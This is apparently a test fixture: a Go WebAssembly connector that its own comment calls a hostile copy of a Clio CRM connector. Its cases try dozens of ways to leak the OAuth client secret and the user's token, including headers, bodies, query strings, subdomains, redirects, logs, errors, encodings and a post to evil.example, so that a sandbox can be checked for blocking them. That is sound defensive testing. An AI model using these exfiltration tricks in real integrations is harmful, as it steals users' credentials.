// Hostile is a copy of the Clio connector that tries to send the client secret and the person's token elsewhere. Clio tells it which
// attempt to make, at /attempt, and it tells Clio what became of it, at /outcome.
package main

import (
	"errors"
	"maps"
	"slices"
	"strings"

	"github.com/crmgate/crmgate/connectors-wasm/sdk"
	"github.com/crmgate/crmgate/connectors-wasm/sdk/hmac"
	"github.com/crmgate/crmgate/connectors-wasm/sdk/json"
)

func main() {}

//go:wasmexport getAuthType
func getAuthType() int32 { return sdk.Answer(authType) }

//go:wasmexport getOauthInfo
func getOauthInfo() int32 { return sdk.Answer(oauthInfo) }

//go:wasmexport getUserInfo
func getUserInfo() int32 { return sdk.Answer(userInfo) }

//go:wasmexport authValidation
func authValidation() int32 { return sdk.Answer(validate) }

//go:wasmexport getLicenseStatus
func getLicenseStatus() int32 { return sdk.Answer(license) }

//go:wasmexport unAuthorize
func unAuthorize() int32 { return sdk.Answer(logout) }

const (
	crm       = "https://app.clio.com"
	elsewhere = "https://eu.app.clio.com" // declared, but not for the secrets
)

func authType(sdk.None) (sdk.AuthType, error) { return sdk.AuthType{Type: "oauth"}, nil }

// attempt asks which attempt to make.
func attempt() string {
	a, _ := sdk.Fetch(sdk.Request{URL: crm + "/attempt"})
	return a.Body
}

// told tells what became of an attempt.
func told(outcome string) {
	_, _ = sdk.Fetch(sdk.Request{Method: "POST", URL: crm + "/outcome", Body: outcome})
}

func clientSecret() string { return sdk.ConfigOr("CLIO_CLIENT_SECRET", "") }

func oauthInfo(sdk.OAuthInfoRequest) (sdk.OAuthInfo, error) {
	info := sdk.OAuthInfo{ClientID: sdk.ConfigOr("CLIO_CLIENT_ID", ""), ClientSecret: clientSecret(), AccessTokenURI: crm + "/oauth/token"}
	secret := info.ClientSecret
	switch attempt() {
	case "token endpoint at another host":
		info.AccessTokenURI = elsewhere + "/oauth/token"
	case "token endpoint at another host, secret in the header":
		info.AccessTokenURI, info.TokenAuth = elsewhere+"/oauth/token", "basic"
	case "token endpoint at another host, without the secret":
		info.AccessTokenURI, info.ClientSecret = elsewhere+"/oauth/token", ""
	case "secret in the header of the token request":
		info.TokenAuth = "basicRaw"
	case "secret in the query of the token endpoint":
		info.AccessTokenURI += "?s=" + sdk.Escape(secret)
	case "secret as client id":
		info.ClientID = secret
	case "secret as scope":
		info.Scopes = secret
	case "secret as failMessage":
		info.FailMessage = secret
	case "secret in an error of getOauthInfo":
		return info, errors.New("the secret is " + secret)
	case "derived secret as client secret, token endpoint elsewhere":
		info.ClientSecret, info.AccessTokenURI = sdk.Base64(secret), elsewhere+"/oauth/token"
	}
	return info, nil
}

func userInfo(in sdk.UserInfoRequest) (sdk.UserInfo, error) {
	who := sdk.PlatformUserInfo{ID: "354010458-clio", Name: "Ada Lovelace", OverridingHostname: "app.clio.com"}
	switch attempt() {
	case "token and secret as id and name":
		who.ID, who.Name = in.AuthHeader, clientSecret()
	case "token and secret as additional info and API key":
		who.PlatformAdditionalInfo = map[string]any{"token": in.AuthHeader, "secret": clientSecret(), clientSecret(): 1}
		who.OverridingAPIKey = clientSecret()
	}
	return sdk.UserInfo{Successful: true, PlatformUserInfo: &who}, nil
}

func logout(sdk.UserRequest) (sdk.Outcome, error) { return sdk.Outcome{Successful: true}, nil }

func license(in sdk.UserRequest) (sdk.Object, error) {
	token := strings.TrimPrefix(in.AuthHeader, "Bearer ")
	return sdk.Object{"isLicenseValid": true, "licenseStatus": token, "licenseStatusDescription": clientSecret(), clientSecret(): []string{token}, "echo": echoed("raw", token)}, nil
}

// theft is an attempt.
type theft struct {
	in            sdk.UserRequest
	token, secret string
	outcome       []string
}

// send sends a request, and notes what became of it.
func (t *theft) send(method, to, body string, headers ...string) string {
	all := map[string]string{}
	for i := 0; i < len(headers); i += 2 {
		all[headers[i]] = headers[i+1]
	}
	a, err := sdk.Fetch(sdk.Request{Method: method, URL: to, Headers: all, Body: body})
	switch {
	case err != nil:
		t.outcome = append(t.outcome, err.(*sdk.FetchError).Kind)
	default:
		t.outcome = append(t.outcome, "sent")
	}
	return everything(a)
}

// everything returns the body and the headers of an answer.
func everything(a sdk.Response) string {
	all := a.Body
	for _, name := range slices.Sorted(maps.Keys(a.Headers)) {
		all += " " + name + ":" + a.Headers[name]
	}
	return all
}

// both sends a request with the token, and one with the secret.
func (t *theft) both(send func(value string)) {
	send(t.token)
	send(t.secret)
}

// pass passes a text on in every way.
func (t *theft) pass(text string) {
	t.send("POST", elsewhere+"/stolen", text)
	t.send("GET", elsewhere+"/stolen?"+sdk.Escape(text), "")
	sdk.Log(sdk.LevelWarn, text)
}

// echoed has Clio repeat a value in an encoding.
func echoed(encoding, value string) string {
	a, err := sdk.Fetch(sdk.Request{Method: "POST", URL: crm + "/echo?as=" + encoding, Headers: map[string]string{"Authorization": "Bearer " + value}})
	if err != nil {
		return err.Error()
	}
	return everything(a)
}

func form(value string) string { return sdk.Parameters{{"t", value}}.Encode() }

func validate(in sdk.UserRequest) (sdk.Outcome, error) {
	t := &theft{in: in, token: strings.TrimPrefix(in.AuthHeader, "Bearer "), secret: clientSecret()}
	name := attempt()
	out, err := t.try(name)
	if len(t.outcome) > 0 {
		told(strings.Join(t.outcome, ", "))
	}
	return out, err
}

func (t *theft) try(name string) (sdk.Outcome, error) {
	out := sdk.Outcome{Successful: true}
	post := func(to string, headers ...string) {
		t.both(func(v string) { t.send("POST", to, "", replaced(headers, v)...) })
	}
	body := func(to, kind string, with func(string) string) {
		t.both(func(v string) { t.send("POST", to, with(v), "Content-Type", kind) })
	}
	plain := func(v string) string { return v }
	asJSON := func(v string) string { b, _ := json.Append(nil, map[string]string{"t": v}); return string(b) }
	if encoding, ok := strings.CutPrefix(name, "echo of Clio: "); ok {
		t.pass(echoed(encoding, t.token))
		return out, nil
	}
	switch name {
	case "header, another host":
		post(elsewhere+"/stolen", "Authorization", "Bearer $")
	case "header of another name, another host":
		post(elsewhere+"/stolen", "Cookie", "a=$", "X-Note", "$", "User-Agent", "$", "Referer", "https://x/$")
	case "header, percent-encoded, another host":
		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", "", "X-Note", sdk.Escape(v)) })
	case "body, another host":
		body(elsewhere+"/stolen", "text/plain", plain)
	case "body, form, another host":
		body(elsewhere+"/stolen", "application/x-www-form-urlencoded", form)
	case "body, JSON, another host":
		body(elsewhere+"/stolen", "application/json", asJSON)
	case "body, bytes, another host":
		body(elsewhere+"/stolen", "application/octet-stream", func(v string) string { return "\xff\xfe" + v })
	case "query, another host":
		t.both(func(v string) { t.send("GET", elsewhere+"/stolen?"+form(v), "") })
	case "path, another host":
		t.both(func(v string) { t.send("GET", elsewhere+"/stolen/"+sdk.Escape(v), "") })
	case "user name of the URL, another host":
		t.both(func(v string) { t.send("GET", "https://"+sdk.Escape(v)+":x@eu.app.clio.com/stolen", "") })
	case "host":
		t.both(func(v string) { t.send("GET", "https://"+v+".eu.app.clio.com/stolen", "") })
		t.both(func(v string) { t.send("GET", "https://"+sdk.Escape(v)+".eu.app.clio.com/stolen", "") })
	case "fragment, another host":
		t.both(func(v string) { t.send("GET", elsewhere+"/stolen#"+v, "") })
	case "undeclared host":
		post("https://evil.example/stolen", "Authorization", "Bearer $")
	case "another port, and plain http":
		post("https://app.clio.com:444/stolen", "Authorization", "Bearer $")
		post("http://app.clio.com/stolen", "Authorization", "Bearer $")
	case "secret in a header of Clio":
		t.send("POST", crm+"/notes", "", "X-Note", t.secret)
	case "query of Clio":
		t.both(func(v string) { t.send("GET", crm+"/notes?"+form(v), "") })
	case "path of Clio":
		t.both(func(v string) { t.send("GET", crm+"/notes/"+sdk.Escape(v), "") })
	case "method of Clio":
		t.both(func(v string) { t.send(v, crm+"/notes", "") })
	case "name of a header of Clio":
		t.both(func(v string) { t.send("GET", crm+"/notes", "", v, "1") })
		t.both(func(v string) { t.send("GET", crm+"/notes", "", sdk.Escape(v), "1") })
	case "redirect of Clio to another host":
		t.pass(t.send("GET", crm+"/redirect", "", "Authorization", "Bearer "+t.token, "Accept", t.token, "X-Note", t.token))
	case "redirect 307 of Clio to another host, with the token":
		t.pass(t.send("GET", crm+"/redirect?307", "", "Accept", t.token))
		t.pass(t.send("POST", crm+"/redirect?307", form(t.token), "Content-Type", "application/x-www-form-urlencoded"))
	case "log":
		sdk.Log(sdk.LevelError, "the token is "+t.token+", the secret is "+t.secret)
		println(t.token, t.secret)
	case "error text":
		return out, sdk.Error{Message: "the token is " + t.token + ", the secret is " + t.secret, Code: t.secret, Status: 400}
	case "trap":
		panic("the token is " + t.token + ", the secret is " + t.secret)
	case "answer":
		out.Successful = false
		out.ReturnMessage = sdk.Warning(t.token, 1, t.secret, echoed("raw", t.token))
	case "additional info":
		out.User = &sdk.UserChange{PlatformAdditionalInfo: map[string]any{"token": t.token, "secret": t.secret, "echo": echoed("raw", t.token)}}
	case "handles of an earlier call": // of "additional info"
		token := t.in.User.PlatformAdditionalInfo.String("token")
		secret := t.in.User.PlatformAdditionalInfo.String("secret")
		t.send("POST", elsewhere+"/stolen", token+secret, "X-Note", token)
		t.pass(echoed("raw", token))
	case "handles without a nonce":
		t.send("POST", elsewhere+"/stolen", "{{accessToken}}{{secret:CLIO_CLIENT_SECRET}}", "X-Note", "{{accessToken:}}")
		t.pass(echoed("raw", "{{accessToken}}"))
	case "handle in two fields that Clio joins":
		a, b := t.token[:8], t.token[8:]
		t.pass(t.send("POST", crm+"/join", a, "X-Note", b))
	case "handle in two headers, another host":
		t.send("POST", elsewhere+"/stolen", t.token[8:], "X-Note", t.token[:8])
	case "base64, another host":
		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", sdk.Base64("x"+v)) })
	case "base64 of base64, another host":
		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", sdk.Base64(sdk.Base64(v))) })
	case "Basic of both, another host":
		t.send("POST", elsewhere+"/stolen", "", "Authorization", "Basic "+sdk.Basic(t.token, t.secret))
	case "Basic of both, Clio":
		t.send("POST", crm+"/notes", "", "Authorization", "Basic "+sdk.Basic(t.token, t.secret))
	case "HMAC, another host":
		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", hmac.SHA256(v, "m", "hex")) })
		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", hmac.SHA256("key", v, "base64")) })
	case "base64 of base64, echo of Clio":
		t.pass(echoed("raw", sdk.Base64(sdk.Base64(t.token))))
	case "HMAC, log":
		sdk.Log(sdk.LevelInfo, hmac.SHA256(t.secret, "m", "hex")+" "+sdk.Base64(t.token))
	}
	return out, nil
}

// replaced puts a value in place of $.
func replaced(headers []string, value string) []string {
	all := make([]string, len(headers))
	for i, h := range headers {
		all[i] = strings.ReplaceAll(h, "$", value)
	}
	return all
}
